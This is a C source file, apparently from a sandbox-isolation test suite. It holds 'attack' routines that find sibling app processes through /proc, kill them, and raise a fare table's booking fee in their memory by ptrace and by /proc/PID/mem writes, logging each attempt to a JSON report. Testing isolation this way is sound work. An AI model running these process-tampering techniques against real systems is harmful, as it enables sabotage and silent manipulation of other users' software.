/* Attempts on other spokes' processes: kill them, trace one and change its fare
 * table in memory, or change it through /proc/PID/mem. Victims are found the way an
 * attacker on the same host would (/proc: a process whose environment says it is a
 * spoke of the same user data directory); when /proc shows none (a pid namespace),
 * the pid the orders name is tried, as if the attacker had learned it. */
#include "internal.h"
#include "util.h"

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

#define MAX_VICTIMS 16
/* metro_hail keeps its fares in memory in this layout (spokes/metro_hail/main.c). */
#define RATES_MAGIC "METROHAIL-RATES"
#define RATES_FEE_OFFSET 40 /* magic[16], base, per_mile, per_minute, then booking_fee */
#define SCAN_MAX (16u << 20)

/* The value of NAME in /proc/PID/environ, copied into out. */
static bool environ_get(pid_t pid, const char *name, char *out, size_t outlen)
{
    char path[64];
    snprintf(path, sizeof(path), "/proc/%d/environ", (int)pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return false;
    char buf[16384];
    ssize_t n = read_full(fd, buf, sizeof(buf) - 1);
    close(fd);
    if (n <= 0)
        return false;
    buf[n] = '\0';
    size_t nl = strlen(name);
    for (char *p = buf; p < buf + n; p += strlen(p) + 1)
        if (strncmp(p, name, nl) == 0 && p[nl] == '=')
            return str_copy(out, p + nl + 1, outlen);
    return false;
}

/* Spokes of the same user data directory named app ("*": any but this one). */
static size_t find_victims(const struct orders *o, pid_t *out, json_t *report)
{
    char *shared = user_data_dir(o);
    char self_name[128] = "";
    environ_get(getpid(), "SPOKE_NAME", self_name, sizeof(self_name));
    size_t n = 0;
    DIR *d = shared ? opendir("/proc") : NULL;
    struct dirent *e;
    while (d && (e = readdir(d)) != NULL && n < MAX_VICTIMS) {
        if (!isdigit((unsigned char)e->d_name[0]))
            continue;
        pid_t pid = (pid_t)atoi(e->d_name);
        char name[128], data[PATH_MAX];
        if (pid == getpid() || !environ_get(pid, "SPOKE_NAME", name, sizeof(name)) ||
            !environ_get(pid, "SPOKE_DATA", data, sizeof(data)))
            continue;
        size_t sl = strlen(shared);
        if (strncmp(data, shared, sl) != 0 || data[sl] != '/')
            continue;
        if (strcmp(o->victim_app, "*") == 0 ? strcmp(name, self_name) == 0
                                            : strcmp(name, o->victim_app) != 0)
            continue;
        out[n++] = pid;
    }
    if (d)
        closedir(d);
    json_object_set_new(report, "found_in_proc", json_integer((json_int_t)n));
    if (n == 0 && o->victim_pid > 1 && o->victim_pid != getpid()) {
        report_try(report, "no victim in this /proc, so the pid the orders name", 0);
        out[n++] = o->victim_pid;
    }
    free(shared);
    return n;
}

void attack_kill(const struct orders *o, json_t *report)
{
    if (!o->victim_app) {
        report_errno(report, "orders without a victim", EINVAL);
        return;
    }
    pid_t v[MAX_VICTIMS];
    size_t n = find_victims(o, v, report);
    if (n == 0) {
        report_errno(report, "find the victim", ESRCH);
        return;
    }
    int killed = 0, err = 0;
    for (size_t i = 0; i < n; i++) {
        char what[64];
        snprintf(what, sizeof(what), "kill(%d, SIGKILL)", (int)v[i]);
        if (kill(v[i], SIGKILL) == 0) {
            killed++;
            report_try(report, what, 0);
        } else {
            err = errno;
            report_try(report, what, err);
        }
    }
    json_object_set_new(report, "killed", json_integer(killed));
    if (killed)
        report_done(report, "sent SIGKILL to %d process(es)", killed);
    else
        report_errno(report, "kill", err);
}

typedef bool (*mem_read_fn)(void *ud, unsigned long addr, void *buf, size_t len);

/* Finds the fare table in the victim's writable mappings of its own executable. */
static unsigned long find_rates(pid_t pid, mem_read_fn rd, void *ud, int *err)
{
    char path[64], exe[PATH_MAX];
    snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
    ssize_t el = readlink(path, exe, sizeof(exe) - 1);
    snprintf(path, sizeof(path), "/proc/%d/maps", (int)pid);
    FILE *f = fopen(path, "re");
    if (!f || el <= 0) {
        *err = errno;
        if (f)
            fclose(f);
        return 0;
    }
    exe[el] = '\0';
    char line[PATH_MAX + 128];
    unsigned long found = 0;
    char *chunk = xmalloc(65536);
    while (!found && fgets(line, sizeof(line), f)) {
        unsigned long lo, hi;
        char perms[8];
        int off = 0;
        if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %n", &lo, &hi, perms, &off) < 3)
            continue;
        char *name = line + off;
        name[strcspn(name, "\n")] = '\0';
        if (perms[0] != 'r' || perms[1] != 'w' || strcmp(name, exe) != 0 || hi - lo > SCAN_MAX)
            continue;
        for (unsigned long a = lo; a < hi && !found; a += 65536 - 64) {
            size_t len = hi - a < 65536 ? hi - a : 65536;
            if (!rd(ud, a, chunk, len))
                break;
            void *m = memmem(chunk, len, RATES_MAGIC, sizeof(RATES_MAGIC));
            if (m)
                found = a + (unsigned long)((char *)m - chunk);
        }
    }
    free(chunk);
    fclose(f);
    if (!found)
        *err = ENOENT;
    return found;
}

static bool peek_read(void *ud, unsigned long addr, void *buf, size_t len)
{
    pid_t pid = *(pid_t *)ud;
    for (size_t i = 0; i < len; i += sizeof(long)) {
        errno = 0;
        long w = ptrace(PTRACE_PEEKDATA, pid, (void *)(addr + i), NULL);
        if (errno)
            return false;
        memcpy((char *)buf + i, &w, len - i < sizeof(long) ? len - i : sizeof(long));
    }
    return true;
}

void attack_ptrace_poke(const struct orders *o, json_t *report)
{
    pid_t v[MAX_VICTIMS];
    if (!o->victim_app || find_victims(o, v, report) == 0) {
        report_errno(report, "find the victim", ESRCH);
        return;
    }
    pid_t pid = v[0];
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0) {
        report_errno(report, "ptrace(PTRACE_SEIZE)", errno);
        return;
    }
    int st;
    if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) < 0 || waitpid(pid, &st, __WALL) < 0) {
        report_errno(report, "ptrace(PTRACE_INTERRUPT)", errno);
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
        return;
    }
    int err = 0;
    unsigned long at = find_rates(pid, peek_read, &pid, &err);
    if (!at) {
        report_errno(report, "find the fare table in the victim's memory", err);
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
        return;
    }
    unsigned long fee_at = at + RATES_FEE_OFFSET;
    errno = 0;
    long w = ptrace(PTRACE_PEEKDATA, pid, (void *)fee_at, NULL);
    double fee;
    memcpy(&fee, &w, sizeof(fee));
    fee += 10.0;
    memcpy(&w, &fee, sizeof(fee));
    int rc = errno ? -1 : (int)ptrace(PTRACE_POKEDATA, pid, (void *)fee_at, (void *)w);
    err = errno;
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
    if (rc < 0)
        report_errno(report, "ptrace(PTRACE_POKEDATA)", err);
    else
        report_done(report, "traced pid %d and raised its booking fee to %.2f", (int)pid, fee);
}

static bool pread_read(void *ud, unsigned long addr, void *buf, size_t len)
{
    return pread(*(int *)ud, buf, len, (off_t)addr) == (ssize_t)len;
}

void attack_procmem_poke(const struct orders *o, json_t *report)
{
    pid_t v[MAX_VICTIMS];
    if (!o->victim_app || find_victims(o, v, report) == 0) {
        report_errno(report, "find the victim", ESRCH);
        return;
    }
    char path[64];
    snprintf(path, sizeof(path), "/proc/%d/mem", (int)v[0]);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd < 0) {
        report_errno(report, path, errno);
        return;
    }
    int err = 0;
    unsigned long at = find_rates(v[0], pread_read, &fd, &err);
    if (!at) {
        report_errno(report, "find the fare table in the victim's memory", err);
        close(fd);
        return;
    }
    double fee;
    if (pread(fd, &fee, sizeof(fee), (off_t)(at + RATES_FEE_OFFSET)) != sizeof(fee)) {
        report_errno(report, "pread", errno);
        close(fd);
        return;
    }
    fee += 10.0;
    ssize_t n = pwrite(fd, &fee, sizeof(fee), (off_t)(at + RATES_FEE_OFFSET));
    err = errno;
    close(fd);
    if (n != sizeof(fee))
        report_errno(report, "pwrite", err);
    else
        report_done(report, "wrote %s: booking fee now %.2f", path, fee);
}
